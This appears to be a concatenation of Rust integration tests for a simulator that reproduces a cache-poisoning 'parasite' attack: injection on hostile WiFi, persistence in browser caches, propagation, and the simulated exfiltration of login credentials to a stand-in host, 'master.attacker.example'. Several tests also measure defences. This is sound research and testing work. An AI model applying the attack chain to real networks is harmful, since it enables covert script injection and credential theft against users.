    for reaction_us in [300, 1_000, 5_000, 20_000, 60_000, 200_000, 1_000_000] {
        let won = injection_race_with_timing(reaction_us, server_one_way);
        if last_won && !won {
            crossover_seen = true;
        }
        assert!(
            !won || last_won,
            "attacker must not start winning again at {reaction_us} us after having lost"
        );
        last_won = won;
    }
    assert!(crossover_seen, "the sweep must cross from winning to losing");
}

#[test]
fn nearby_servers_shrink_the_injection_window() {
    // A CDN-like 2 ms one-way path: a 0.3 ms attacker still wins, a 30 ms one
    // does not. This is the quantitative core of the paper's advice to reduce
    // reliance on far-away origins for security-critical scripts.
    assert!(injection_race_with_timing(300, 2_000));
    assert!(!injection_race_with_timing(30_000, 2_000));
}
