//! Integration coverage for the bounded simulator hot path: trace recorder
//! modes are observable through the public experiment API, the campaign
//! fleet scales without retaining per-packet memory, and starved scenarios
//! fail as per-artifact errors instead of sinking their batch.

use master_parasite::netsim::capture::TraceMode;
use master_parasite::netsim::error::NetError;
use parasite::experiments::{
    try_run_many, ExperimentError, ExperimentId, Registry, RunConfig,
};

fn quick_config() -> RunConfig {
    RunConfig {
        sites: 1_500,
        crawl_sites: 400,
        days: 20,
        ..RunConfig::default()
    }
}

#[test]
fn table2_is_identical_under_every_trace_mode() {
    // The injection matrix only reads delivered bytes, so bounding (or
    // dropping) the packet trace must not change the result.
    let experiment = Registry::get(ExperimentId::Table2);
    let render = |mode: TraceMode| {
        experiment
            .run(&RunConfig {
                trace_mode: mode,
                ..quick_config()
            })
            .render_text()
    };
    let full = render(TraceMode::Full);
    assert_eq!(full, render(TraceMode::Ring(64)));
    assert_eq!(full, render(TraceMode::SummaryOnly));
}

#[test]
fn fig2_flow_survives_a_summary_only_config() {
    // The Figure 2 flow needs real events, so it pins a full trace no matter
    // what the sweep-wide recorder mode says.
    let artifact = Registry::get(ExperimentId::Fig2).run(&RunConfig {
        trace_mode: TraceMode::SummaryOnly,
        ..quick_config()
    });
    assert!(artifact.render_text().contains("[ATTACK]"));
}

#[test]
fn campaign_fleet_is_deterministic_and_loses_no_clients() {
    let config = RunConfig {
        fleet_clients: 1_000,
        fleet_aps: 16,
        jitter_us: 250,
        ..quick_config()
    };
    let first = Registry::get(ExperimentId::CampaignFleet).run(&config);
    let second = Registry::get(ExperimentId::CampaignFleet).run(&config);
    assert_eq!(first, second, "same seed, same fleet, same artifact");

    let result = first.data.as_campaign_fleet().expect("campaign artifact");
    assert_eq!(result.infected_clients + result.clean_clients, 1_000);
    assert_eq!(result.failed_aps, 0);
    assert!(result.infected_clients > result.clean_clients);
}

#[test]
fn starved_task_fails_alone_in_a_mixed_sweep() {
    let healthy = quick_config();
    let starved = RunConfig {
        event_budget: 2,
        ..quick_config()
    };
    let results = try_run_many(&[ExperimentId::Table2], &[starved, healthy], 2);
    assert_eq!(results.len(), 2);
    assert_eq!(
        results[0],
        Err(ExperimentError::Net(NetError::EventBudgetExhausted { budget: 2 }))
    );
    let artifact = results[1].as_ref().expect("the healthy config completes");
    assert_eq!(artifact.id, ExperimentId::Table2);
}
