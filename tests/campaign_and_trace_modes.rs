//! Integration coverage for the bounded simulator hot path: trace recorder
//! modes are observable through the public experiment API, the campaign
//! fleet scales without retaining per-packet memory, and starved scenarios
//! fail as per-artifact errors instead of sinking their batch.

use master_parasite::netsim::capture::TraceMode;
use master_parasite::netsim::error::NetError;
use parasite::experiments::{
    try_run_many, ExperimentError, ExperimentId, Registry, RunConfig,
};

fn quick_config() -> RunConfig {
    RunConfig {
        sites: 1_500,
        crawl_sites: 400,
        days: 20,
        ..RunConfig::default()
    }
}

#[test]
fn table2_is_identical_under_every_trace_mode() {
    // The injection matrix only reads delivered bytes, so bounding (or
    // dropping) the packet trace must not change the result.
    let experiment = Registry::get(ExperimentId::Table2);
    let render = |mode: TraceMode| {
        experiment
            .run(&RunConfig {
                trace_mode: mode,
                ..quick_config()
            })
            .render_text()
    };
    let full = render(TraceMode::Full);
    assert_eq!(full, render(TraceMode::Ring(64)));
    assert_eq!(full, render(TraceMode::SummaryOnly));
}

#[test]
fn fig2_flow_survives_a_summary_only_config() {
    // The Figure 2 flow needs real events, so it pins a full trace no matter
    // what the sweep-wide recorder mode says.
    let artifact = Registry::get(ExperimentId::Fig2).run(&RunConfig {
        trace_mode: TraceMode::SummaryOnly,
        ..quick_config()
    });
    assert!(artifact.render_text().contains("[ATTACK]"));
}

#[test]
fn campaign_fleet_is_deterministic_and_loses_no_clients() {
    let config = RunConfig {
        fleet_clients: 1_000,
        fleet_aps: 16,
        jitter_us: 250,
        ..quick_config()
    };
    let first = Registry::get(ExperimentId::CampaignFleet).run(&config);
    let second = Registry::get(ExperimentId::CampaignFleet).run(&config);
    assert_eq!(first, second, "same seed, same fleet, same artifact");

    let result = first.data.as_campaign_fleet().expect("campaign artifact");
    assert_eq!(result.infected_clients + result.clean_clients, 1_000);
    assert_eq!(result.failed_aps, 0);
    assert!(result.infected_clients > result.clean_clients);
}

#[test]
fn starved_task_fails_alone_in_a_mixed_sweep() {
    let healthy = quick_config();
    let starved = RunConfig {
        event_budget: 2,
        ..quick_config()
    };
    let results = try_run_many(&[ExperimentId::Table2], &[starved, healthy], 2);
    assert_eq!(results.len(), 2);
    assert_eq!(
        results[0],
        Err(ExperimentError::Net(NetError::EventBudgetExhausted { budget: 2 }))
    );
    let artifact = results[1].as_ref().expect("the healthy config completes");
    assert_eq!(artifact.id, ExperimentId::Table2);
}

#[test]
fn multiday_campaign_runs_through_the_registry_and_batch_engine() {
    let config = RunConfig {
        fleet_clients: 600,
        fleet_aps: 6,
        fleet_days: 4,
        fleet_churn: 0.25,
        fleet_jobs: 1,
        ..quick_config()
    };
    let sequential = try_run_many(&[ExperimentId::CampaignFleet], &[config], 1);
    let parallel = try_run_many(&[ExperimentId::CampaignFleet], &[config], 4);
    assert_eq!(sequential, parallel, "batch scheduling must not perturb the day loop");
    let artifact = sequential[0].as_ref().expect("campaign completes");
    let result = artifact.data.as_campaign_fleet().expect("campaign artifact");
    assert_eq!(result.day_stats.len(), 4);
    assert_eq!(result.infected_clients + result.clean_clients, 600);
    // Day one races the whole clean population; infected seats then persist
    // without touching the network, so later exposure is the clean remainder
    // plus churned-in arrivals.
    assert_eq!(result.day_stats[0].exposed, 600);
    assert!(result.day_stats[1].exposed < 600);
    // The JSON wire form carries the day series for machine consumers.
    use parasite::json::{Json, ToJson};
    let json = Json::parse(&artifact.to_json().to_string()).expect("artifact JSON parses");
    let days = json
        .get("data")
        .and_then(|d| d.get("days"))
        .and_then(Json::as_array)
        .expect("day series present");
    assert_eq!(days.len(), 4);
    assert_eq!(days[0].get("exposed").and_then(Json::as_u64), Some(600));
}

#[test]
fn exhausted_global_budget_is_a_typed_error() {
    // Ten events shared across *all* simulators of the run cannot even carry
    // one handshake: the typed error must name the global pool, not the
    // (huge) per-simulator budget.
    let starved = RunConfig {
        global_event_budget: 10,
        ..quick_config()
    };
    let results = try_run_many(&[ExperimentId::Table2], &[starved], 1);
    assert_eq!(
        results[0],
        Err(ExperimentError::Net(NetError::EventBudgetExhausted { budget: 10 }))
    );

    // The campaign fleet fails the same way instead of silently reporting a
    // partial merge when the pool drains mid-sweep.
    let campaign = RunConfig {
        fleet_clients: 400,
        fleet_aps: 4,
        fleet_shards: 2,
        fleet_jobs: 1,
        global_event_budget: 10,
        ..quick_config()
    };
    match Registry::get(ExperimentId::CampaignFleet).try_run(&campaign) {
        Err(ExperimentError::Net(NetError::EventBudgetExhausted { budget: 10 })) => {}
        other => panic!("expected the global pool's typed error, got {other:?}"),
    }
}

#[test]
fn generous_global_budget_leaves_results_untouched() {
    // A pool larger than the run needs must not change any artifact byte.
    let plain = quick_config();
    let budgeted = RunConfig {
        global_event_budget: 50_000_000,
        ..quick_config()
    };
    let reference = Registry::get(ExperimentId::Table2).run(&plain);
    let budgeted_run = Registry::get(ExperimentId::Table2).run(&budgeted);
    assert_eq!(reference.render_text(), budgeted_run.render_text());
    assert_eq!(reference.data, budgeted_run.data);
}
