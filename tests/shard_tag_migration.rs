//! Regression pins for the `SHARD_TAG` migration.
//!
//! PR 10 normalised `SHARD_TAG` from the original 32-bit `0x5eed_5a4d` to
//! the 64-bit high-lane convention (`0x5a4d_0000_0000_0000`) shared by
//! every tag in [`parasite::experiments::SEED_TAG_REGISTRY`]. The change
//! re-keys the shard seed streams, so these tests pin the two properties
//! that make it a safe migration:
//!
//! 1. the classic sharded seed-sweep artifact is byte-identical to the
//!    pre-migration golden (shard outcomes are seed-independent at
//!    jitter 0 — the race is decided by deterministic timing);
//! 2. a checkpoint written *before* the migration still resumes, because
//!    the config fingerprint never included shard scheduling, and the
//!    resumed report is byte-identical to the pre-migration run.
//!
//! The goldens were captured from the release binary at the commit
//! immediately before the migration.

use parasite::experiments::{
    run_campaign_with_checkpoint, ExperimentId, Registry, RunConfig, SEED_TAG_REGISTRY,
};
use parasite::json::ToJson;

/// `paper-report --json --only campaign_fleet --fleet-clients 2048
/// --fleet-aps 8 --fleet-shards 4`, artifact `data` object, pre-migration.
const GOLDEN_SHARDED_DATA: &str = "{\"shards\":4,\"aps\":8,\"clients\":2048,\
\"infected_clients\":1792,\"clean_clients\":256,\"failed_aps\":0,\
\"infection_rate\":0.875,\"total_events\":17920,\"payload_bytes\":921344,\
\"injected_events\":1792,\"pending_bytes_dropped\":0}";

/// The same capture for the 3-day churn campaign (`--fleet-days 3
/// --fleet-churn 0.2 --fleet-shards 4`), pre-migration.
const GOLDEN_MULTIDAY_DATA: &str = "{\"shards\":4,\"aps\":8,\"clients\":2048,\
\"infected_clients\":1792,\"clean_clients\":256,\"failed_aps\":0,\
\"infection_rate\":0.875,\"total_events\":28470,\"payload_bytes\":1389942,\
\"injected_events\":2566,\"pending_bytes_dropped\":0,\"days\":[\
{\"day\":1,\"departures\":417,\"arrivals\":417,\"cache_clears\":0,\
\"object_rotated\":false,\"rotation_cured\":0,\"exposed\":2048,\
\"newly_infected\":1792,\"failed_aps\":0,\"infected\":1792,\"clean\":256,\
\"events\":17920},\
{\"day\":2,\"departures\":430,\"arrivals\":430,\"cache_clears\":16,\
\"object_rotated\":false,\"rotation_cured\":0,\"exposed\":660,\
\"newly_infected\":404,\"failed_aps\":0,\"infected\":1792,\"clean\":256,\
\"events\":5428},\
{\"day\":3,\"departures\":405,\"arrivals\":405,\"cache_clears\":20,\
\"object_rotated\":false,\"rotation_cured\":0,\"exposed\":626,\
\"newly_infected\":370,\"failed_aps\":0,\"infected\":1792,\"clean\":256,\
\"events\":5122}]}";

/// A complete v2 checkpoint written by the pre-migration binary for that
/// 3-day campaign.
const PRE_MIGRATION_CHECKPOINT: &str = include_str!("fixtures/pre_migration_checkpoint.json");

fn fleet_config() -> RunConfig {
    RunConfig {
        fleet_clients: 2048,
        fleet_aps: 8,
        fleet_shards: 4,
        ..RunConfig::default()
    }
}

#[test]
fn shard_tag_uses_the_high_lane_convention() {
    let (_, tag) = SEED_TAG_REGISTRY
        .iter()
        .find(|(name, _)| *name == "SHARD_TAG")
        .expect("SHARD_TAG is registered");
    assert_eq!(tag >> 48, 0x5a4d, "top 16 bits identify the shard stream family");
    assert_eq!(tag & 0xffff_ffff_ffff, 0, "the low lanes are reserved for indices");
}

#[test]
fn sharded_sweep_is_byte_identical_to_the_pre_migration_golden() {
    let artifact = Registry::get(ExperimentId::CampaignFleet)
        .try_run(&fleet_config())
        .expect("the sharded sweep runs");
    assert_eq!(artifact.data.to_json().to_string(), GOLDEN_SHARDED_DATA);
}

#[test]
fn multiday_campaign_is_byte_identical_to_the_pre_migration_golden() {
    let config = RunConfig { fleet_days: 3, fleet_churn: 0.2, ..fleet_config() };
    let artifact = Registry::get(ExperimentId::CampaignFleet)
        .try_run(&config)
        .expect("the multi-day campaign runs");
    assert_eq!(artifact.data.to_json().to_string(), GOLDEN_MULTIDAY_DATA);
}

#[test]
fn pre_migration_checkpoint_still_resumes_byte_identically() {
    // The fingerprint covers the campaign's logical configuration, not the
    // shard scheduling or the tag constants, so a checkpoint written by the
    // old binary must be accepted verbatim and replay to the same report.
    let path = std::env::temp_dir().join(format!(
        "mp-shard-tag-migration-{}.json",
        std::process::id()
    ));
    std::fs::write(&path, PRE_MIGRATION_CHECKPOINT).expect("checkpoint fixture written");
    let config = RunConfig { fleet_days: 3, fleet_churn: 0.2, ..fleet_config() };
    let result = run_campaign_with_checkpoint(&config, &path);
    let _ = std::fs::remove_file(&path);
    let result = result.expect("the pre-migration checkpoint is accepted");
    assert_eq!(result.to_json().to_string(), GOLDEN_MULTIDAY_DATA);
}
