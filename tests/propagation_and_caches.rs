//! Integration tests for cross-domain and cross-device propagation (§VI-B)
//! and the network-cache taxonomy experiments (Table IV).

use mp_browser::browser::Browser;
use mp_browser::dom::Dom;
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::transport::{Internet, StaticOrigin};
use mp_httpsim::url::Url;
use mp_webcache::{table4_entries, SharedCache};
use parasite::experiments::{ExperimentId, Registry, RunConfig};
use parasite::infect::Infector;
use parasite::injection::InjectingExchange;
use parasite::propagation;
use parasite::script::Parasite;

fn site(host: &str, embeds_analytics: bool) -> StaticOrigin {
    let mut origin = StaticOrigin::new(host);
    let analytics = if embeds_analytics {
        r#"<script src="http://analytics.shared-metrics.example/ga.js"></script>"#
    } else {
        ""
    };
    let html = format!(
        r#"<html><head><script src="/app.js"></script>{analytics}</head><body>{host}</body></html>"#
    );
    origin.put_text("/", ResourceKind::Html, &html, "no-cache");
    origin.put_text("/index.html", ResourceKind::Html, &html, "no-cache");
    origin.put_text("/app.js", ResourceKind::JavaScript, "function app(){}", "public, max-age=86400");
    origin
}

fn world() -> Internet {
    let mut net = Internet::new();
    net.register_origin(site("news.example", true));
    net.register_origin(site("shop.example", true));
    net.register_origin(site("bank.example", false));
    net.register_origin(site("mail.example", false));
    net.register_origin(site("social.example", false));
    let mut analytics = StaticOrigin::new("analytics.shared-metrics.example");
    analytics.put_text("/ga.js", ResourceKind::JavaScript, "function ga(){}", "public, max-age=604800");
    net.register_origin(analytics);
    net
}

fn infector() -> Infector {
    Infector::new(Parasite::standard("master.attacker.example"))
}

#[test]
fn infecting_the_shared_analytics_script_reaches_most_of_the_web() {
    let shared = Url::parse("http://analytics.shared-metrics.example/ga.js").unwrap();
    let mut injecting = InjectingExchange::new(world(), infector());
    injecting.add_target(&shared);
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(injecting));

    let sites: Vec<Url> = ["news.example", "shop.example", "bank.example"]
        .iter()
        .map(|h| Url::parse(&format!("http://{h}/index.html")).unwrap())
        .collect();
    let report = propagation::propagate_via_shared_file(&mut browser, &shared, &sites, &infector());
    assert_eq!(report.infected_count(), 2, "only the two analytics-embedding sites run the parasite");
    assert!(report.is_infected("news.example"));
    assert!(report.is_infected("shop.example"));
    assert!(!report.is_infected("bank.example"));
}

#[test]
fn iframe_propagation_infects_banking_and_mail_without_the_user_visiting_them() {
    let mut injecting = InjectingExchange::new(world(), infector());
    injecting.infect_all(true);
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(injecting));
    let carrier = Url::parse("http://news.example/index.html").unwrap();
    browser.visit(&carrier);

    let mut dom = Dom::new(carrier);
    let targets: Vec<Url> = ["bank.example", "mail.example", "social.example"]
        .iter()
        .map(|h| Url::parse(&format!("http://{h}/")).unwrap())
        .collect();
    let report = propagation::propagate_via_iframes(&mut browser, &mut dom, &targets, &infector());
    assert_eq!(report.infected_count(), 3);
    // The infected copies are now cached for later clean-network visits.
    for host in ["bank.example", "mail.example", "social.example"] {
        let app = Url::parse(&format!("http://{host}/app.js")).unwrap();
        assert!(browser.cache().contains_any_partition(&app), "{host} app.js must be cached");
    }
}

#[test]
fn cache_partitioning_limits_shared_file_propagation() {
    let shared = Url::parse("http://analytics.shared-metrics.example/ga.js").unwrap();
    let mut injecting = InjectingExchange::new(world(), infector());
    injecting.add_target(&shared);
    let mut browser = Browser::new(
        BrowserProfile::chrome().with_cache_partitioning(),
        Box::new(injecting),
    );
    // Visit news.example while exposed: its partition holds an infected ga.js.
    browser.visit(&Url::parse("http://news.example/index.html").unwrap());
    // The attacker disappears before the victim opens shop.example.
    browser.change_network(Box::new(world()));
    let load = browser.visit(&Url::parse("http://shop.example/index.html").unwrap());
    let shop_ga_infected = load
        .page
        .scripts
        .iter()
        .filter(|s| s.url.as_ref().map(|u| u.host == shared.host).unwrap_or(false))
        .any(|s| infector().is_infected(&s.body));
    assert!(
        !shop_ga_infected,
        "with partitioned caches the poisoned analytics entry must not leak into another site's partition"
    );
}

#[test]
fn squid_proxy_spreads_the_infection_to_a_second_device() {
    let mut injecting = InjectingExchange::new(world(), infector());
    injecting.infect_all(true);
    let squid = table4_entries().into_iter().find(|e| e.name == "Squid").unwrap();
    let cache = SharedCache::new(squid, injecting, false);
    let page = Url::parse("http://news.example/index.html").unwrap();
    let (first, second) = propagation::propagate_via_shared_cache(
        cache,
        BrowserProfile::chrome(),
        BrowserProfile::firefox(),
        &page,
        &infector(),
    );
    assert!(first && second);
}

#[test]
fn table4_browser_rows_and_cdn_rows_are_infectable_over_http() {
    let artifact = Registry::get(ExperimentId::Table4).run(&RunConfig::default());
    let table = artifact.data.as_table4().expect("table4 artifact");
    for name in ["Desktop", "Smartphones", "Squid", "CDNs", "Fortigate", "CacheMara"] {
        let row = table.rows.iter().find(|r| r.name == name).unwrap();
        assert!(row.infected_over_http, "{name} should be infectable over http");
    }
    // HTTPS-incapable caches stay clean on HTTPS.
    for name in ["Barracuda Web Filter", "Blue Coat ProxySG", "CacheMara", "LTE Network"] {
        let row = table.rows.iter().find(|r| r.name == name).unwrap();
        assert!(!row.infected_over_https, "{name} must not cache https");
    }
}
