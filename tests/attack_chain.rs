//! End-to-end integration test: the full attack chain of the paper, from the
//! victim joining a hostile WiFi to credentials arriving at the master.
//!
//! Covers: eviction (§IV) → TCP/HTTP injection (§V) → persistence across a
//! network change (§VI-A) → propagation (§VI-B) → C&C (§VI-C) → application
//! attack (§VII).

use mp_browser::browser::{Browser, FetchSource};
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::transport::{Internet, StaticOrigin};
use mp_httpsim::url::Url;
use parasite::attacks;
use parasite::cnc::CncServer;
use parasite::eviction::{junk_origin, EvictionAttack};
use parasite::master::Master;
use parasite::script::Parasite;

fn somesite() -> StaticOrigin {
    let mut origin = StaticOrigin::new("somesite.com");
    origin.put_text(
        "/index.html",
        ResourceKind::Html,
        r#"<html><head><script src="/my.js"></script></head><body>news</body></html>"#,
        "no-cache",
    );
    origin.put_text("/my.js", ResourceKind::JavaScript, "function genuine(){}", "public, max-age=604800");
    origin
}

fn clean_internet() -> Internet {
    let mut net = Internet::new();
    net.register_origin(somesite());
    net.register_origin(junk_origin(2_048, 64));
    net
}

#[test]
fn full_attack_chain_from_wifi_to_credential_theft() {
    let mut master = Master::new("master.attacker.example");
    let target = Url::parse("http://somesite.com/my.js").unwrap();
    master.add_target(target.clone());
    let infector = master.infector();

    // --- Phase 0: the victim has browsed the site before (object is cached).
    let profile = BrowserProfile {
        cache_capacity_bytes: 120_000,
        ..BrowserProfile::chrome()
    };
    let mut browser = Browser::new(profile, Box::new(clean_internet()));
    let page = Url::parse("http://somesite.com/index.html").unwrap();
    browser.visit(&page);
    assert!(browser.cache().contains_any_partition(&target));

    // --- Phase 1: the victim joins the attacker's WiFi. Cache eviction first.
    let hostile = master.injecting_exchange(clean_internet());
    browser.change_network(Box::new(hostile));
    let eviction = EvictionAttack::new(2_048, 64).run(&mut browser, std::slice::from_ref(&target));
    assert!(eviction.evicted_targets, "target must be flushed: {eviction:?}");

    // --- Phase 2: the next visit re-fetches the object; the master races the
    // response and the infected copy lands in the cache.
    let load = browser.visit(&page);
    assert!(load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));
    // The parasite additionally pins itself via the Cache API.
    let infected_response = load
        .records
        .iter()
        .find(|r| r.url == target)
        .map(|_| browser.cache().peek(&target, "somesite.com").unwrap().response.clone())
        .unwrap();
    browser
        .cache_api_mut()
        .put(&target.origin().to_string(), "parasite", &target, infected_response);

    // --- Phase 3: the victim goes home (clean network). The parasite persists.
    browser.change_network(Box::new(clean_internet()));
    browser.advance_time(3600);
    let at_home = browser.visit(&page);
    let parasite_script = at_home
        .page
        .scripts
        .iter()
        .find(|s| infector.is_infected(&s.body))
        .expect("parasite still executes on the home network");
    assert!(!parasite_script.body.is_empty());
    assert!(
        at_home.record_for(&target).unwrap().source == FetchSource::HttpCache
            || at_home.record_for(&target).unwrap().source == FetchSource::CacheApi,
        "the infected copy must come from a local cache, not the network"
    );

    // --- Phase 4: C&C + application attack. The victim logs into the bank;
    // the parasite hooks the form and exfiltrates the credentials.
    let detected = Parasite::detect(&parasite_script.body).unwrap();
    master.register_bot(&detected.campaign, "somesite.com");
    assert_eq!(master.bots().len(), 1);

    let bank = mp_apps::banking::BankingApp::default();
    let (mut dom, form) = bank.login_dom();
    let user = dom.by_name("username").unwrap().id;
    let pass = dom.by_name("password").unwrap().id;
    dom.set_attr(user, "value", "alice");
    dom.set_attr(pass, "value", "correct-horse");
    dom.submit_form(form).unwrap();

    let mut cnc = CncServer::new("master.attacker.example");
    let theft = attacks::steal_login_data(&dom, &mut cnc, &detected.campaign);
    assert!(theft.succeeded);
    let exfil = String::from_utf8(cnc.exfiltrated()[0].data.clone()).unwrap();
    assert!(exfil.contains("username=alice"));
    assert!(exfil.contains("password=correct-horse"));
}

#[test]
fn attack_fails_end_to_end_when_the_victim_never_meets_the_attacker() {
    let master = Master::new("master.attacker.example");
    let infector = master.infector();
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(clean_internet()));
    let page = Url::parse("http://somesite.com/index.html").unwrap();
    let load = browser.visit(&page);
    assert!(!load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));
}
