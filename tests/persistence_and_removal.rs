//! Integration tests for parasite persistence and the removal methods of
//! Table III, across browser profiles.

use mp_browser::browser::{Browser, FetchSource};
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::Response;
use mp_httpsim::transport::StaticOrigin;
use mp_httpsim::url::Url;
use parasite::experiments::{ExperimentId, Registry, RemovalCell, RunConfig};
use parasite::infect::Infector;
use parasite::script::Parasite;

fn infector() -> Infector {
    Infector::new(Parasite::standard("master.attacker.example"))
}

fn origin_with_persistent_script() -> StaticOrigin {
    let mut origin = StaticOrigin::new("top1.com");
    origin.put_text(
        "/persistent.js",
        ResourceKind::JavaScript,
        "function lib(){}",
        "public, max-age=604800",
    );
    origin
}

fn infected_browser(profile: BrowserProfile) -> (Browser, Url) {
    let target = Url::parse("http://top1.com/persistent.js").unwrap();
    let mut browser = Browser::new(profile, Box::new(origin_with_persistent_script()));
    let infected = infector().infect_response(
        &Response::ok(Body::text(ResourceKind::JavaScript, "function lib(){}"))
            .with_cache_control("public, max-age=604800"),
    );
    // The infected copy is in the HTTP cache (delivered by the injection race)
    // and, where supported, in the Cache API.
    browser.cache_mut().store(&target, "top1.com", infected.clone(), 0);
    browser
        .cache_api_mut()
        .put(&target.origin().to_string(), "parasite", &target, infected);
    (browser, target)
}

#[test]
fn parasite_survives_browser_restart_and_network_change() {
    let (mut browser, target) = infected_browser(BrowserProfile::chrome());
    // Days later, on a different network with the original site unreachable,
    // the infected copy still serves from the cache.
    browser.change_network(Box::new(mp_httpsim::transport::Internet::new()));
    browser.advance_time(3 * 24 * 3600);
    let result = browser.fetch(&target, "top1.com");
    assert!(infector().is_infected(&result.response.body.as_text()));
    assert!(!result.source.touched_network());
}

#[test]
fn hard_reload_and_cache_clear_do_not_remove_cache_api_parasites() {
    for profile in [BrowserProfile::chrome(), BrowserProfile::firefox(), BrowserProfile::edge(), BrowserProfile::opera()] {
        let (mut browser, target) = infected_browser(profile.clone());
        browser.hard_reload(&target);
        browser.clear_http_cache();
        let result = browser.fetch(&target, "top1.com");
        assert_eq!(result.source, FetchSource::CacheApi, "{:?}", profile.kind);
        assert!(infector().is_infected(&result.response.body.as_text()));
    }
}

#[test]
fn clearing_cookies_and_site_data_removes_the_parasite_everywhere() {
    for profile in [BrowserProfile::chrome(), BrowserProfile::firefox(), BrowserProfile::opera()] {
        let (mut browser, target) = infected_browser(profile);
        browser.clear_cookies_and_site_data();
        browser.clear_http_cache();
        let result = browser.fetch(&target, "top1.com");
        assert_eq!(result.source, FetchSource::Network);
        assert!(!infector().is_infected(&result.response.body.as_text()));
    }
}

#[test]
fn internet_explorer_has_no_cache_api_persistence_layer() {
    let (mut browser, target) = infected_browser(BrowserProfile::internet_explorer());
    assert!(!browser.cache_api().is_supported());
    // The HTTP-cache copy still serves, but clearing the cache removes it —
    // there is no second layer to fall back to.
    browser.clear_http_cache();
    let result = browser.fetch(&target, "top1.com");
    assert_eq!(result.source, FetchSource::Network);
    assert!(!infector().is_infected(&result.response.body.as_text()));
}

#[test]
fn table3_experiment_matches_these_observations() {
    let artifact = Registry::get(ExperimentId::Table3).run(&RunConfig::default());
    let table = artifact.data.as_table3().expect("table3 artifact");
    for (browser, cells) in &table.rows {
        if browser == "IE" {
            assert!(cells.iter().all(|c| *c == RemovalCell::NotApplicable));
        } else {
            assert_eq!(cells[0], RemovalCell::Survived, "{browser}: Ctrl+F5");
            assert_eq!(cells[1], RemovalCell::Survived, "{browser}: clear cache");
            assert_eq!(cells[2], RemovalCell::Removed, "{browser}: clear cookies");
        }
    }
}

#[test]
fn random_query_string_defence_bypasses_the_poisoned_cache_entry() {
    let (mut browser, target) = infected_browser(BrowserProfile::chrome());
    // §VIII: requesting with a random query string loads a fresh copy every
    // time, so the pinned infected entry is never used.
    let busted = target.with_query(Some("rnd=83729137"));
    let result = browser.fetch(&busted, "top1.com");
    assert_eq!(result.source, FetchSource::Network);
    assert!(!infector().is_infected(&result.response.body.as_text()));
}
