//! Determinism contract of the simulator and the batch engine.
//!
//! The data-structure refactors behind the hot path (slab hosts, calendar
//! event queue, the copy-free service path) are only acceptable if they
//! preserve the old-order contract: same seed, same configuration ⇒ the full
//! `Trace` render and the `TraceSummary` are byte-for-byte identical, run
//! after run — with and without medium jitter — and a `run_many` sweep
//! produces the same artifacts at `--jobs 1` as on a thread pool.

use master_parasite::netsim::addr::IpAddr;
use master_parasite::netsim::attacker::{Injector, ResponseInjector};
use master_parasite::netsim::capture::{TraceMode, TraceSummary};
use master_parasite::netsim::error::NetError;
use master_parasite::netsim::link::MediumKind;
use master_parasite::netsim::sim::{FixedResponder, Simulator};
use master_parasite::netsim::time::Duration;
use parasite::experiments::{run_many, ExperimentId, RunConfig};
use parasite::json::ToJson;

/// The representative scenario: a café access point (shared WiFi) with the
/// master's tap on it, the genuine server across the WAN, and a handful of
/// victims — most requesting the object the master races for, some an
/// unprepared one. Returns the wired-up simulator, ready to run.
fn cafe_world(seed: u64, jitter_us: u64, mode: TraceMode) -> Simulator {
    let mut sim = Simulator::new(seed).with_trace_mode(mode);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
    if jitter_us > 0 {
        sim.set_medium_jitter(wifi, Duration::from_micros(jitter_us));
        sim.set_medium_jitter(wan, Duration::from_micros(jitter_us * 4));
    }
    let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    sim.set_service(
        server,
        Box::new(FixedResponder::new(
            &b"HTTP/1.1 200 OK\r\n\r\ngenuine-script();"[..],
            Duration::from_micros(500),
        )),
    );
    let tap = ResponseInjector::new(
        "master",
        Injector::default(),
        |payload| payload.starts_with(b"GET /my.js"),
        |_req| b"HTTP/1.1 200 OK\r\n\r\nparasite();".to_vec(),
    );
    sim.add_tap(wifi, Box::new(tap));

    for index in 0..8u8 {
        let name = format!("victim{index}");
        let client = sim.add_host(&name, IpAddr::new(10, 0, 0, 10 + index), wifi);
        let conn = sim.connect(client, server, 80).expect("hosts exist");
        let request: &[u8] = if index % 3 == 0 {
            b"GET /weather.js HTTP/1.1\r\nHost: somesite.com\r\n\r\n"
        } else {
            b"GET /my.js HTTP/1.1\r\nHost: somesite.com\r\n\r\n"
        };
        sim.send(client, conn, request).expect("connection exists");
    }
    sim
}

/// Runs the café scenario to completion under a full trace and returns the
/// rendered trace plus the summary counters.
fn cafe_run(seed: u64, jitter_us: u64) -> (String, TraceSummary) {
    let mut sim = cafe_world(seed, jitter_us, TraceMode::Full);
    sim.run_until_idle().expect("scenario stays within the event budget");
    (sim.trace().render(), *sim.trace().summary())
}

#[test]
fn cafe_trace_is_byte_identical_across_runs_without_jitter() {
    let (first_render, first_summary) = cafe_run(2021, 0);
    let (second_render, second_summary) = cafe_run(2021, 0);
    assert_eq!(first_render, second_render);
    assert_eq!(first_summary, second_summary);
    // The scenario is the paper's: the tap wins races for the prepared object.
    assert!(first_render.contains("[ATTACK]"));
    assert!(first_summary.injected_events > 0);
    assert!(first_summary.payload_events > 0);
}

#[test]
fn cafe_trace_is_byte_identical_across_runs_with_jitter() {
    let (first_render, first_summary) = cafe_run(2021, 300);
    let (second_render, second_summary) = cafe_run(2021, 300);
    assert_eq!(first_render, second_render, "same seed + jitter must replay exactly");
    assert_eq!(first_summary, second_summary);
    // A different seed draws different jitter, so the timeline moves.
    let (other_render, _) = cafe_run(2022, 300);
    assert_ne!(first_render, other_render);
    // Jitter only shifts timings; the message complement is unchanged.
    let (calm_render, calm_summary) = cafe_run(2021, 0);
    assert_eq!(first_summary.total_events, calm_summary.total_events);
    assert_ne!(first_render, calm_render);
}

#[test]
fn run_many_parallel_matches_jobs_one_for_flows_and_fleet() {
    let ids = [ExperimentId::Fig2, ExperimentId::CampaignFleet];
    let configs = [
        RunConfig {
